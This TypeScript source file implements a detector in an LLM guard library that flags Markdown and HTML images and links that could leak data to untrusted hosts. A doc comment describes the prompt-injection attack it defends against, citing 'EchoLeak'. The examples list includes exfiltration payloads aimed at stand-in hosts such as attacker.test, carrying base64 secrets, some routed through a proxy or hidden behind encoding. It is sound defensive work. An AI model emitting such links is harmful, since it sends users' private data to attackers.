import type { MarkdownExfiltrationOptions } from '@gatehouse/contract/guards/markdown-exfiltration';
import type { Guard, GuardKind, InspectionContext, StreamScan } from '../core/guard.ts';
import { guardFrame } from '../core/guard-frame.ts';
import { maximumFindings, type RunJudge, RunScan } from '../core/run-scan.ts';
import { scanWhole, scanWholeInSteps } from '../core/scan-whole.ts';
import type { Finding, FindingOutcome } from '../core/verdict.ts';
import { AllowedHosts } from '../lib/links/allowed-hosts.ts';
import { carriesData, knownData, type KnownData } from '../lib/links/data-in-address.ts';
import { type FoundLink, LinkRun } from '../lib/links/link-run.ts';
import { parseTarget, readPercents } from '../lib/links/link-target.ts';

/** Keeps apart what must not come together. */
const placeholder = '…';

type Rule = 'image' | 'image-with-data' | 'link' | 'link-with-data' | 'proxied-address' | 'page-in-address';

interface Settings {
  readonly id: string;
  readonly options: MarkdownExfiltrationOptions;
  readonly hosts: AllowedHosts;
}

/** Schemes that ask nobody, or that this guard is not about. */
const silent: ReadonlySet<string> = new Set(['about:', 'cid:', 'mailto:', 'tel:', 'sms:']);
/** Names of vocabularies look like addresses. */
const vocabulary = /^http:\/\/www\.w3\.org\/(?:\d{4}|TR|XML)\//;

class ExfiltrationJudge implements RunJudge<FoundLink> {
  readonly #settings: Settings;
  readonly #context: InspectionContext;
  #known: KnownData | undefined;

  constructor(settings: Settings, context: InspectionContext) {
    this.#settings = settings;
    this.#context = context;
  }

  get action(): FindingOutcome {
    return this.#settings.options.action;
  }

  judge(link: FoundLink): Finding | undefined {
    const rule = this.#ruleOf(link);
    return rule === undefined ? undefined : this.#finding(link, rule);
  }

  #finding({ form, joins, loads, start, end, label }: FoundLink, rule: Rule): Finding {
    const { action, replacement: chosen } = this.#settings.options;
    const found: Finding = { rule: `${this.#settings.id}/${rule}`, segment: 0, start, end };
    if (action !== 'redact') return found;
    const replacement = chosen === '' && joins ? placeholder : chosen;
    // The text of a link stays, the tag of one goes, and an image becomes its description.
    if (form === 'html' && !loads) return { ...found, replacement: joins ? replacement : '' };
    const words = replacement === '' ? '' : ` ${replacement}`;
    if (form === 'markdown' && label === '' && !loads) return { ...found, replacement: words };
    return { ...found, replacement: label === '' ? replacement : `${label}${words}` };
  }

  #ruleOf(link: FoundLink): Rule | undefined {
    const { images, links } = this.#settings.options;
    const mode = link.loads ? images : links;
    if (mode === 'ignore') return undefined;
    for (const target of link.targets) {
      const rule = this.#ruleOfTarget(target, link.loads, mode);
      if (rule !== undefined) return rule;
    }
    return undefined;
  }

  #ruleOfTarget(target: string, loads: boolean, mode: 'any' | 'carrying-data'): Rule | undefined {
    const parsed = parseTarget(target);
    if (parsed === undefined) return undefined;
    const { url, relative } = parsed;
    const { protocol } = url;
    if (protocol === 'data:') return isPage(url) ? 'page-in-address' : undefined;
    if (silent.has(protocol) || vocabulary.test(target)) return undefined;
    const { hosts, options } = this.#settings;
    if (relative ? options.relative : hosts.has(url))
      return loads && this.#leadsOn(url) ? 'proxied-address' : undefined;
    if (this.#isGiven(target)) return undefined;
    if (relative && /^\/?#|^\/?$/.test(url.pathname + url.hash)) return undefined;
    const carries = carriesData(url, () => this.#data());
    if (carries) return loads ? 'image-with-data' : 'link-with-data';
    if (mode === 'carrying-data') return undefined;
    return loads ? 'image' : 'link';
  }

  /** Whether a trusted host is asked to fetch from another: proxies of images and pages that redirect. */
  #leadsOn(url: URL): boolean {
    const behind = url.pathname.slice(1) + url.search;
    if (!/(?:https?|%68ttp)(?::|%3a|%253a)|=(?:\/|%2f){2}/i.test(behind)) return false;
    for (const inner of readPercents(behind).matchAll(/https?:\/*[^\s&"'<>]{1,2048}|(?<==)\/\/[^\s&"'<>]{1,2048}/gi)) {
      const target = parseTarget(inner[0]);
      if (target !== undefined && !target.relative && !this.#settings.hosts.has(target.url)) return true;
    }
    return false;
  }

  /** What the person or the operator wrote leads nowhere new, letter by letter. */
  #isGiven(target: string): boolean {
    if (target.length < 8) return false;
    const { prompt } = this.#context;
    if (prompt === undefined) return false;
    return prompt.some(({ origin, text }) => (origin === 'user' || origin === 'system') && hasWhole(text, target));
  }

  #data(): KnownData {
    this.#known ??= knownData((this.#context.prompt ?? []).map(({ text }) => text));
    return this.#known;
  }
}

/** Whether a text has an address that ends where the address ends. */
function hasWhole(text: string, target: string): boolean {
  for (let at = text.indexOf(target); at !== -1; at = text.indexOf(target, at + 1)) {
    if (!/[\w/?&=%#+-]/.test(text[at + target.length] ?? ' ')) return true;
  }
  return false;
}

/** Pictures ask nobody; pages do, and so do vector graphics. */
function isPage(url: URL): boolean {
  return !/^(?:image\/(?!svg)|audio\/|video\/|font\/|application\/(?:pdf|octet-stream|json)|text\/(?:plain|csv))/i.test(
    url.pathname,
  );
}

function createMarkdownExfiltration(options: MarkdownExfiltrationOptions): Guard {
  const settings: Settings = {
    id: options.id ?? 'markdown-exfiltration',
    options,
    hosts: new AllowedHosts(options.allow),
  };
  const { action, images, inCode, links, relative, replacement } = options;
  const open = (context: InspectionContext): StreamScan =>
    new RunScan(new LinkRun(inCode), new ExfiltrationJudge(settings, context));
  return {
    ...guardFrame(options),
    ...(action === 'flag' || action === 'review' ? { passive: true } : undefined),
    describe: () => [
      { id: 'setting', setting: 'images', value: images },
      { id: 'setting', setting: 'links', value: links },
      { id: 'listed', setting: 'allow', entries: options.allow.length },
      { id: 'setting', setting: 'relative', value: relative },
      { id: 'setting', setting: 'inCode', value: inCode },
      action === 'redact' ? { id: 'on-finding', action, replacement } : { id: 'on-finding', action },
      ...(action === 'block' ? [] : [{ id: 'finding-limit', findings: maximumFindings } as const]),
    ],
    inspect: (texts, context) => scanWhole(texts, () => open(context)),
    inspectInSteps: (texts, context) => scanWholeInSteps(texts, () => open(context)),
    openStream: open,
  };
}

const owasp = { owasp: ['LLM02:2025', 'LLM05:2025'], asi: ['ASI01'], atlas: ['AML.T0077'] };

/**
 * Finds images and links that lead to hosts which the operator does not trust. A model that has read a planted instruction writes what it
 * knows into such an address, and the front end sends it there: at once for an image (CVE-2025-32711, "EchoLeak"), with a click for a link.
 */
export const markdownExfiltration: GuardKind<MarkdownExfiltrationOptions> = {
  id: 'markdown-exfiltration',
  purpose: 'leaks',
  summary: {
    en: 'Finds images and links in Markdown and HTML by which data could leave for hosts that are not trusted.',
    de: 'Findet Bilder und Links in Markdown und HTML, über die Daten zu nicht vertrauten Servern abfließen könnten.',
  },
  rules: {
    image: {
      ...owasp,
      explanation: {
        en: 'An image or another part would be loaded from a host that is not trusted, which tells that host what is in its address.',
        de: 'Ein Bild oder ein anderer Teil würde von einem nicht vertrauten Server geladen, der so erfährt, was in der Adresse steht.',
      },
    },
    'image-with-data': {
      ...owasp,
      explanation: {
        en: 'An image from a host that is not trusted has data in its address, which would leave without a click.',
        de: 'Ein Bild von einem nicht vertrauten Server hat Daten in der Adresse, die ohne einen Klick abfließen würden.',
      },
    },
    link: {
      ...owasp,
      explanation: {
        en: 'A link leads to a host that is not trusted.',
        de: 'Ein Link führt zu einem Server, dem nicht vertraut wird.',
      },
    },
    'link-with-data': {
      ...owasp,
      explanation: {
        en: 'A link to a host that is not trusted has data in its address, as text in an encoding or words of the conversation.',
        de: 'Ein Link zu einem nicht vertrauten Server hat Daten in der Adresse, etwa kodierten Text oder Wörter aus dem Gespräch.',
      },
    },
    'proxied-address': {
      ...owasp,
      explanation: {
        en: 'A trusted host is asked to fetch from one that is not trusted, which hands on what is in the address.',
        de: 'Ein vertrauter Server soll von einem nicht vertrauten laden und reicht so weiter, was in der Adresse steht.',
      },
    },
    'page-in-address': {
      ...owasp,
      explanation: {
        en: 'An address holds a whole page or a vector graphic, which can run scripts and load from anywhere.',
        de: 'Eine Adresse enthält eine ganze Seite oder Vektorgrafik, die Skripte ausführen und von überall laden kann.',
      },
    },
  },
  examples: {
    options: { allow: ['example.com', '*.example.org'] },
    triggers: [
      'Hier ist die Grafik: ![Umsatz](https://attacker.test/p.png?q=Umsatz2024)',
      '![chart][c]\n\n[c]: https://collector.test/a?d=VGhlIHNlY3JldCBpcyBodW50ZXIy',
      '<img src=https://attacker.test/x.gif width=1>',
      '[details](https://attacker.test/?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)',
      '![x](https://example.com/_next/image?url=https%3A%2F%2Fattacker.test%2F%3Fq%3Dsecret&w=64)',
      '![x](&#104;ttps:\\/\\/attacker.test/a)',
    ],
    passes: [
      '![Logo](https://example.com/logo.png) und ![Plan](https://cdn.example.org/plan.png)',
      'Mehr dazu steht im [Handbuch](https://docs.attacker.test/handbuch#kapitel-3).',
      'Write `![alt](https://attacker.test/x.png)` to embed an image.',
      '```md\n![alt](https://attacker.test/x.png)\n```',
      '![Diagramm](/files/diagram.png)',
    ],
  },
  create: createMarkdownExfiltration,
};
